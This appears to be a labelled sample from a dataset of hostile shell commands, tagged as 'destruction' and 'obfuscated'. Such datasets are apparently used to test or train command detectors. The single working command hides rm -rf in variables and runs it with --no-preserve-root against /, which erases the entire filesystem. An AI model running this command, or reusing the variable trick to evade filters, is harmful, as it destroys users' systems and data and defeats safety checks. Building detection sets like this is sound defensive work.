# description: Puts rm and its flags in variables and runs them against /.
# family: destruction
# obfuscated: yes
c=rm
f=-rf
$c $f --no-preserve-root /
